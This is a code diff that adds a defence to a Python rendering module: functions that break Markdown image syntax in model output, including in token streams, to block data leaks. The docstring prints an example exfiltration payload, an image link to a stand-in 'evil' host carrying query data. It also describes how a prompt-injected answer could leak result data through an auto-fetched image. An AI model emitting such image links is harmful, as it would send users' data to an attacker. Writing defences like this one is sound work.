@@ -6,7 +6,8 @@ performance page all say the same thing in the same words, and tests can check i
 
 from __future__ import annotations
 
-from collections.abc import Mapping, Sequence
+import re
+from collections.abc import Iterable, Iterator, Mapping, Sequence
 from typing import Any
 
 from ..metrics import TARGETS, assess, format_ms
@@ -108,10 +109,33 @@ def suggestions(schema: Schema, limit: int = 5) -> list[str]:
     return seen[:limit]
 
 
+_IMAGE = re.compile(r"!(?=\[)")
+ZWSP = "\u200b"
+
+
+def defuse_images(text: str) -> str:
+    """Break Markdown image syntax in model text: ``![x](https://evil/?q=data)`` stays visible text.
+
+    HTML is never enabled, but a Markdown image is fetched by the browser as soon as it renders,
+    so a prompt-injected answer could leak result data in an image URL without anyone clicking.
+    A zero-width space between ``!`` and ``[`` turns the image into a plain (click-only) link.
+    """
+    return _IMAGE.sub("!" + ZWSP, text)
+
+
+def defuse_stream(tokens: Iterable[str]) -> Iterator[str]:
+    """``defuse_images`` for a token stream, where ``!`` and ``[`` may arrive in different tokens."""
+    previous = ""
+    for token in tokens:
+        if previous.endswith("!") and token.startswith("["):
+            token = ZWSP + token
+        token = defuse_images(token)
+        previous = token or previous
+        yield token
+
+
 def safe_filename(text: str, default: str = "result") -> str:
     """A download name from a question: letters, digits and dashes only, short."""
-    import re
-
     slug = re.sub(r"[^0-9a-zA-Z]+", "-", text).strip("-").lower()[:50]
     return slug or default
 
